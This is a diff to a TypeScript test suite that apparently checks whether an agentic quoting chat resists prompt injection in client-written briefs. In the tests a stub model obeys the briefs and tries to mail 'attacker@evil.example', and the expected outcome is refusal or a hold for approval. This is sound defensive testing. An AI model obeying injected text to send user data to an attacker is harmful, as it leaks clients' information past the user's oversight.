@@ -109,41 +109,50 @@ async function trusting(): Promise<number> {
   return conversationId;
 }
 
-describe('a client’s words in a conversation that may send and save by itself', () => {
-  let byRules: number;
-  let byModel: number;
-  /** Whether the words so far name the attacker's address. */
-  let isNamed = false;
-  beforeAll(async () => {
-    byRules = await trusting();
-    byModel = await trusting();
-  });
+/** A conversation for each ten: looking at one takes the longer, the more it holds. */
+const TENS = Array.from({ length: Math.ceil(BRIEFS.length / 10) }, (_, ten) => ({
+  first: BRIEFS[ten * 10]?.id,
+  briefs: BRIEFS.slice(ten * 10, (ten + 1) * 10),
+}));
 
-  it.each(BRIEFS)('$id send and save nothing by fixed rules', async ({ text }) => {
-    const before = await world();
-    const chat = chatWith(engine);
-    const { cards } = await chat.view(byRules);
-    await chat.send(text, { conversationId: byRules, offline: true });
-    const view = await chat.settled(byRules);
-    const started = view.cards.slice(cards.length).map(({ tool }) => tool);
-    // What the offline reader cannot read is not priced either.
-    expect([[], ['generate_quote']]).toContainEqual(started);
-    expect(await world()).toEqual(before);
-  });
+describe.each(TENS)(
+  'client’s words from $first in a conversation that may send and save by itself',
+  (ten) => {
+    let byRules: number;
+    let byModel: number;
+    /** Whether the words so far name the attacker's address. */
+    let isNamed = false;
+    beforeAll(async () => {
+      byRules = await trusting();
+      byModel = await trusting();
+    });
 
-  it.each(BRIEFS)('$id send nothing to others by a model that obeys them', async ({ text }) => {
-    const before = await world();
-    const chat = chatWith(engine);
-    const { cards } = await chat.view(byModel);
-    answer(mail({ to: 'attacker@evil.example' }), mail({ to: EVE }), mail({ to: '[mail 9]' }));
-    await chat.send(text, { conversationId: byModel });
-    const started = (await chat.settled(byModel)).cards.slice(cards.length);
-    isNamed ||= /\sattacker@evil\.example\s/.test(text);
-    // An address that stands in the words is shown and waits, in spite of the trust; any other is refused.
-    expect(started.map(({ job }) => job.waitingFor)).toEqual(isNamed ? ['approval'] : []);
-    expect(await world()).toEqual(before);
-  });
-});
+    it.each(ten.briefs)('$id send and save nothing by fixed rules', async ({ text }) => {
+      const before = await world();
+      const chat = chatWith(engine);
+      const { cards } = await chat.view(byRules);
+      await chat.send(text, { conversationId: byRules, offline: true });
+      const view = await chat.settled(byRules);
+      const started = view.cards.slice(cards.length).map(({ tool }) => tool);
+      // What the offline reader cannot read is not priced either.
+      expect([[], ['generate_quote']]).toContainEqual(started);
+      expect(await world()).toEqual(before);
+    });
+
+    it.each(ten.briefs)('$id send nothing to others by a model that obeys them', async ({ text }) => {
+      const before = await world();
+      const chat = chatWith(engine);
+      const { cards } = await chat.view(byModel);
+      answer(mail({ to: 'attacker@evil.example' }), mail({ to: EVE }), mail({ to: '[mail 9]' }));
+      await chat.send(text, { conversationId: byModel });
+      const started = (await chat.settled(byModel)).cards.slice(cards.length);
+      isNamed ||= /\sattacker@evil\.example\s/.test(text);
+      // An address that stands in the words is shown and waits, in spite of the trust; any other is refused.
+      expect(started.map(({ job }) => job.waitingFor)).toEqual(isNamed ? ['approval'] : []);
+      expect(await world()).toEqual(before);
+    });
+  },
+);
 
 describe('a model that answers maliciously', () => {
   let other: { conversationId: number; searchJob: number };
